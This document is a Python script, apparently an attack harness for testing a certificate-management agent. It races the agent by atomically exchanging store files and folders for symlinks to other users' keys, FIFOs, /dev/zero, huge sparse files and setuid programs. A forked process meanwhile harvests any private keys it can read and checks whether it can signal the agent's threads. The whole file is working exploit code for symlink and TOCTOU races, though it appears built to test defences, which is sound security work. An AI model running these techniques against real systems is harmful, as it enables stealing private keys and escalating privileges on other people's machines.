#!/usr/bin/python3
"""Races the agent in a store, as the user who owns the store and the folder above it.

  attacker.py race --seconds N --home DIR --store DIR --prefix NAME --caught DIR [OPTION]...
  attacker.py look --home DIR --caught DIR --foreign PATH...

`race` exchanges files in the store, the store itself, and its parent for other things: a storm on names of one kind
lasts some ten milliseconds and exchanges them up to a hundred thousand times a second; then the next kind has its turn.
At the end, or once --caught has a file "stop", it puts all folders back. The last line is "done" with the number
of exchanges of each kind of name.

  --prefix NAME      what the names of the store's certificates begin with
  --folder DIR       a folder of somebody else, for links to lead to; may be repeated
  --foreign PATH     a file, or folder of files, that this user may not read; may be repeated
  --slots KIND,...   only these names: parent, store, version, file, old, link, temporary
  --things KIND,...  only these things: folder, foreign, fifo, zero, sparse, twin, chain, program, own, loop
  --pause LOW,HIGH   milliseconds between two exchanges, instead of next to none
  --plant N          keeps N old versions of each certificate in the store, for the agent to remove
  --storm SECONDS    how long a storm lasts

Meanwhile, or once with `look`, it tries to read private keys, where they belong and wherever a link leads. Each key
that it could read goes into the folder --caught, and so do notes when a file of its own changes owner, and when it may
send signals to the agent.
"""
import argparse
import ctypes
import hashlib
import itertools
import json
import os
import random
import re
import shutil
import signal
import stat
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
HERE, EXCHANGE = -100, 2
KEY = re.compile(rb"-----BEGIN [A-Z ]*PRIVATE KEY-----.*?-----END [A-Z ]*PRIVATE KEY-----", re.DOTALL)
AGENT = re.compile(rb"dev\.akvvm\.|/bin/akvvm_service")
OLD = "0" * 28
SPARE = ".spare-"
AT_ONCE = 8
CERTBOT = ("cert.pem", "chain.pem", "fullchain.pem", "privkey.pem")
ENOUGH = 1 << 20
PROGRAM = "#!/bin/sh\nid -u >/run/canary/$$-$(id -u)\n"


def exchange(one, other):
    if LIBC.renameat2(HERE, os.fsencode(one), HERE, os.fsencode(other), EXCHANGE):
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code), one, None, other)


def inode(path):
    try:
        status = os.lstat(path)
        return status.st_dev, status.st_ino
    except OSError:
        return None


def is_folder(path):
    try:
        return stat.S_ISDIR(os.lstat(path).st_mode)
    except OSError:
        return False


def discard(path):
    if is_folder(path):
        shutil.rmtree(path, ignore_errors=True)
    else:
        try:
            os.unlink(path)
        except OSError:
            pass


def content(path):
    """What a regular file has; nothing where there is none, or it cannot be read."""
    try:
        file = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    except OSError:
        return b""
    try:
        return os.read(file, ENOUGH) if stat.S_ISREG(os.fstat(file).st_mode) else b""
    except OSError:
        return b""
    finally:
        os.close(file)


def names(folder):
    try:
        return sorted(os.listdir(folder))
    except OSError:
        return []


def role(path):
    """What a file of certificates is by its name: a key, a chain, both, or a leaf."""
    name = os.path.basename(path)
    if "key" in name:
        return "key"
    if name.endswith(".PEM") or name.endswith(".PEM.tmp") or name.startswith("both"):
        return "both"
    return "leaf" if name == "cert.pem" else "chain"


def note(options, name, line):
    with open(os.path.join(options.caught, name), "a", encoding="utf-8") as file:
        file.write(line + "\n")


class Looker:
    """Tries to read what this user should not."""

    def __init__(self, options):
        self.options = options
        self.known = set()

    def candidates(self):
        yield from self.options.foreign
        for each in self.options.foreign:
            for name in names(each):
                path = os.path.join(each, name)
                yield path
                yield from (os.path.join(path, inner) for inner in CERTBOT)
        for folder, folders, files in os.walk(self.options.home):
            for name in folders + files:
                path = os.path.join(folder, name)
                yield path
                if os.path.islink(path):
                    yield from (os.path.join(path, inner) for inner in CERTBOT)

    def look(self):
        for path in self.candidates():
            for key in KEY.findall(content(path)):
                digest = hashlib.sha256(key).hexdigest()
                if digest not in self.known:
                    self.known.add(digest)
                    with open(os.path.join(self.options.caught, digest + ".key"), "wb") as file:
                        file.write(b"# found at " + os.fsencode(path) + b"\n" + key + b"\n")

    def reach(self):
        """Tries whether the agent's threads take signals of this user, as those of a user's own processes do."""
        for process in filter(str.isdigit, names("/proc")):
            if not AGENT.search(content(f"/proc/{process}/cmdline")):
                continue
            for thread in names(f"/proc/{process}/task"):
                try:
                    os.kill(int(thread), 0)
                    note(self.options, "signals.txt", f"thread {thread} of the agent's process {process}")
                except OSError:
                    pass

    def run(self):
        os.nice(5)
        while True:
            self.look()
            self.reach()
            time.sleep(0.005)


class Things:
    """Makes what is put in the place of a name."""

    def __init__(self, options):
        self.options = options
        self.pem = os.path.join(options.home, "own.pem")
        self.masters = {}
        self.numbers = itertools.count()

    def fresh(self, folder):
        return os.path.join(folder, f"{SPARE}{next(self.numbers)}")

    def make(self, kind, slot):
        """Beside the slot: whoever does not own a folder may rename it, but not move it elsewhere."""
        path = self.fresh(os.path.dirname(slot))
        getattr(self, kind)(path, slot)
        return path

    def folder(self, path, _):
        os.symlink(random.choice(self.options.folder), path)

    def foreign(self, path, slot):
        """For a folder a foreign folder, for a file the foreign file that a program would take for it."""
        files, folders = self.targets()
        if is_folder(slot):
            found = folders
        else:
            found = [each for each in files if role(each) == role(slot)] or files
        os.symlink(random.choice(found), path)

    def targets(self):
        """Foreign files; and of the foreign folders those that have, for all one can see, what a program looks for."""
        folders = []
        for each in self.options.foreign:
            folders.append(each)
            folders += [path for path in (os.path.join(each, name) for name in names(each)) if is_folder(path)]
        files = [os.path.join(each, name) for each in folders for name in names(each) or CERTBOT]
        files = [each for each in files if not is_folder(each) and not os.path.islink(each)]
        return files, [each for each in folders if not names(each) or set(CERTBOT) & set(names(each))]

    def fifo(self, path, _):
        os.mkfifo(path, 0o666)

    def zero(self, path, _):
        os.symlink("/dev/zero", path)

    def sparse(self, path, _):
        with open(path, "wb") as file:
            file.truncate(8 << 30)

    def twin(self, path, slot):
        """The same content in a file of its own, which is kept under a second name and open for writing."""
        master = self.fresh(self.options.home)
        file = open(master, "wb", buffering=0)
        file.write(content(slot) or content(self.pem))
        os.chmod(master, 0o6755)
        os.link(master, path)
        self.masters[master] = file

    def chain(self, path, _):
        shutil.copyfile(self.pem, path)
        os.chmod(path, 0o600)

    def program(self, path, _):
        with open(path, "w", encoding="ascii") as file:
            file.write(PROGRAM)
        os.chmod(path, 0o4755)

    def own_folder(self, path):
        os.mkdir(path)
        for name in CERTBOT:
            self.chain(os.path.join(path, name), "")

    def own(self, path, _):
        self.own_folder(path)

    def loop(self, path, slot):
        os.symlink(slot, path)

    def lost(self):
        """Those of its own files that became somebody else's."""
        for master, file in self.masters.items():
            status = os.fstat(file.fileno())
            if status.st_uid != os.getuid():
                yield f"{master} is now of user {status.st_uid}, mode {stat.S_IMODE(status.st_mode):o}"

    def forget(self):
        for master, file in self.masters.items():
            file.close()
            discard(master)
        self.masters = {}


class Race:
    KINDS = ("folder", "foreign", "fifo", "zero", "sparse", "twin", "chain", "program", "own", "loop")
    FOLDERS = ("folder", "foreign", "fifo", "chain", "own", "loop")
    WEIGHTS = {"parent": 2, "store": 4, "version": 6, "file": 6, "old": 4, "link": 3, "temporary": 3}

    def __init__(self, options):
        self.options = options
        self.things = Things(options)
        self.parent = os.path.dirname(options.store)
        self.counts = {}
        self.end = time.monotonic() + options.seconds

    def plant(self):
        """Old versions as this user would have them, which retention is to remove."""
        for number in range(self.options.plant):
            for certificate in {name.split(".")[1] for name in names(self.options.store) if self.is_ours(name)}:
                name = f"contoso.{certificate}.{OLD}{number:04x}.{1000000 + number}.{2000000 + number}"
                path = os.path.join(self.options.store, name)
                if not os.path.lexists(path):
                    self.things.own_folder(path)

    def is_ours(self, name):
        return name.startswith(self.options.prefix)

    def slots(self):
        store = self.options.store
        found = [("parent", self.parent), ("store", store), ("temporary", store)]
        for name in names(store):
            path = os.path.join(store, name)
            if OLD in name:
                found.append(("old", path))
            elif self.is_ours(name):
                found.append(("link" if os.path.islink(path) else "version", path))
                if is_folder(path):
                    found.extend(("file", os.path.join(path, inner)) for inner in CERTBOT)
        wanted = self.options.slots
        return [each for each in found if not wanted or each[0] in wanted]

    def choose(self):
        """A kind of name, all names of that kind, and what to exchange them for."""
        slots = self.slots()
        kinds = sorted({kind for kind, _ in slots})
        if not kinds:
            return None
        kind = random.choices(kinds, [self.WEIGHTS[each] for each in kinds])[0]
        things = self.FOLDERS if kind in ("parent", "store") else self.KINDS
        things = [each for each in things if each in (self.options.things or things)]
        paths = [path for each, path in slots if each == kind]
        return (kind, random.sample(paths, min(len(paths), AT_ONCE)), random.choice(things)) if things else None

    def flip(self, spare, slot):
        try:
            exchange(spare, slot)
        except FileNotFoundError:
            # One of the two is missing: a name that is there only now and then.
            try:
                os.rename(spare, slot)
            except FileNotFoundError:
                os.rename(slot, spare)

    def storm(self, kind, slots, thing):
        pairs = [(self.things.make(thing, slot), slot, inode(slot)) for slot in slots]
        low, high = self.options.pause or random.choice(((0, 0), (0, 0), (0, 1), (0, 5)))
        end = min(self.end, time.monotonic() + self.options.storm * random.uniform(0.5, 1.5))
        done = 0
        while time.monotonic() < end:
            for spare, slot, _ in pairs:
                # Not all at once: some are in their places while others are not.
                if len(pairs) == 1 or random.random() < 0.5:
                    done += self.strike(spare, slot, thing)
            if high:
                time.sleep(random.uniform(low, high) / 1000)
        self.counts[kind] = self.counts.get(kind, 0) + done
        for spare, slot, before in pairs:
            if before and inode(spare) == before:
                self.strike(spare, slot, thing)
            if not before or inode(spare) != before:
                discard(spare)

    def hunt(self, thing):
        """Exchanges files that are being written as soon as their names show, and puts names in their way."""
        store = self.options.store
        links = [name for name in names(store) if self.is_ours(name) and os.path.islink(os.path.join(store, name))]
        known = [os.path.join(store, f".{name}.tmp") for name in links]
        spare = self.things.make(thing, os.path.join(store, "any"))
        end = min(self.end, time.monotonic() + 4 * self.options.storm * random.uniform(0.5, 1.5))
        done = 0
        while time.monotonic() < end:
            for folder in [store] + [os.path.join(store, name) for name in names(store) if self.is_ours(name)]:
                for name in names(folder):
                    if name.startswith(".") and not name.startswith(SPARE):
                        done += self.strike(spare, os.path.join(folder, name), thing)
            if random.random() < 0.01 and known:
                done += self.strike(spare, random.choice(known), thing)
            if inode(spare) is None:
                spare = self.things.make(thing, os.path.join(store, "any"))
        self.counts["temporary"] = self.counts.get("temporary", 0) + done
        discard(spare)

    def strike(self, spare, slot, thing):
        """Exchanges once; 0 where that is not possible now."""
        try:
            self.flip(spare, slot)
            return 1
        except FileNotFoundError:
            # Somebody has removed both.
            try:
                getattr(self.things, thing)(spare, slot)
            except OSError:
                pass
        except OSError:
            pass
        return 0

    def heal(self):
        """Puts folders in their places again, wherever an exchange has left them."""
        for path in (self.parent, self.options.store):
            beside = os.path.dirname(path)
            if is_folder(path):
                if os.access(path, os.W_OK):
                    continue
                # The agent has made one of its own.
                os.rename(path, self.things.fresh(beside))
            discard(path)
            kept = [os.path.join(beside, name) for name in names(beside) if name.startswith(SPARE)]
            kept = [each for each in kept if is_folder(each) and os.access(each, os.W_OK) and self.belongs(path, each)]
            if kept:
                os.rename(kept[0], path)
            else:
                os.mkdir(path, 0o755)

    def tidy(self):
        for folder in (self.options.home, self.parent, self.options.store):
            for name in names(folder):
                if name.startswith(SPARE):
                    discard(os.path.join(folder, name))

    def belongs(self, path, kept):
        if path == self.parent:
            return os.path.basename(self.options.store) in names(kept)
        return any(self.is_ours(name) for name in names(kept))

    def run(self):
        while time.monotonic() < self.end and not os.path.exists(os.path.join(self.options.caught, "stop")):
            try:
                self.turn()
            except OSError:
                # The agent works on the same names.
                pass
            for line in self.things.lost():
                note(self.options, "files.txt", line)
            self.things.forget()

    def turn(self):
        self.heal()
        self.plant()
        chosen = self.choose()
        if chosen is None:
            time.sleep(0.002)
        elif chosen[0] == "temporary":
            self.hunt(chosen[2])
        else:
            self.storm(*chosen)


def race(options):
    looker = os.fork()
    if looker == 0:
        Looker(options).run()
    try:
        attack = Race(options)
        attack.run()
        attack.heal()
        attack.tidy()
        if os.waitpid(looker, os.WNOHANG) != (0, 0):
            sys.exit("the process that looks for keys has ended")
    finally:
        try:
            os.kill(looker, signal.SIGKILL)
        except ProcessLookupError:
            pass
    print("done " + json.dumps(attack.counts, sort_keys=True), flush=True)


def words(text):
    return text.split(",")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("command", choices=("race", "look"))
    parser.add_argument("--seconds", type=float, default=8)
    parser.add_argument("--home", required=True)
    parser.add_argument("--store", default="")
    parser.add_argument("--prefix", default="")
    parser.add_argument("--caught", required=True)
    parser.add_argument("--folder", action="append", default=[])
    parser.add_argument("--foreign", action="append", default=[])
    parser.add_argument("--slots", type=words, default=[])
    parser.add_argument("--things", type=words, default=[])
    parser.add_argument("--pause", type=lambda text: tuple(map(float, text.split(","))), default=None)
    parser.add_argument("--plant", type=int, default=0)
    parser.add_argument("--storm", type=float, default=0.06)
    options = parser.parse_args()
    if os.getuid() == 0:
        parser.error("root needs no attack")
    if options.command == "race":
        race(options)
    else:
        Looker(options).look()


main()
